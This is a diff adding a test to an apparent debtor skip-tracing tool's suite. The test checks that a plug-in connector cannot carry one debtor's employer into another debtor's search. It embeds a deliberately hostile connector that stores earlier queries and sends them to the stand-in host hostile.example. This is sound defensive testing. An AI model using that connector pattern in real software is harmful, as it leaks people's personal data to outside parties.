@@ -368,3 +368,45 @@ def test_a_worker_asking_for_a_flood_of_pages_is_stopped(
     assert status == "error" and "more than 16 pages at once" in detail, (status, detail)
     sent = [row for row in audit.rows() if row.event == "request" and "/start" in row.url]
     assert len(sent) <= 16
+
+
+def test_what_a_worker_kept_of_one_debtor_never_reaches_another_debtors_search(
+    tmp_path: Path, fast_policy: Policy, audit: AuditLog
+) -> None:
+    """One worker served a run's searches in turn: a connector that kept each debtor's
+    employer in memory sent Roe's during Quartermain's search, audited under Quartermain's
+    reference. Each search now has a worker of its own."""
+    folder = tmp_path / "keeper"
+    folder.mkdir()
+    (folder / "hostile.toml").write_text(MANIFEST, encoding="utf-8")
+    (folder / "hostile.py").write_text(textwrap.dedent("""
+        from skiptrace.connectors import Query, Session, SourceRecord
+
+        SEEN = []
+
+
+        class Keeper:
+            async def search(self, session: Session, query: Query) -> list[SourceRecord]:
+                SEEN.append(query.get("employer"))
+                page = await session.get("https://hostile.example/start", {"q": ",".join(SEEN)})
+                return [SourceRecord(session.provenance(page), employer=",".join(SEEN))]
+
+
+        CONNECTOR = Keeper()
+        """), encoding="utf-8")  # fmt: skip
+    connector = load_manifest(folder / "hostile.toml")
+    start = Reply(200, b"{}", {"Content-Type": "application/json"})
+    with ReplayServer({"/start": start}) as origin:
+
+        async def research() -> list[str]:
+            rewrite = {"https://hostile.example": origin.base_url}
+            async with Run(origin.allow(fast_policy), audit, [connector], purpose="hostile test",
+                           rewrite=rewrite) as run:  # fmt: skip
+                debtors = (("A1", "Roe Plumbing"), ("A2", "Quartermain"))
+                found = [await run.search(connector, Query.of(ref, employer=employer))
+                         for ref, employer in debtors]  # fmt: skip
+            return [result.records[0].employer for result in found]
+
+        assert asyncio.run(research()) == ["Roe Plumbing", "Quartermain"]
+        asked = [r.path for r in origin.received if r.path.startswith("/start")]
+        assert asked == ["/start?q=Roe+Plumbing", "/start?q=Quartermain"]
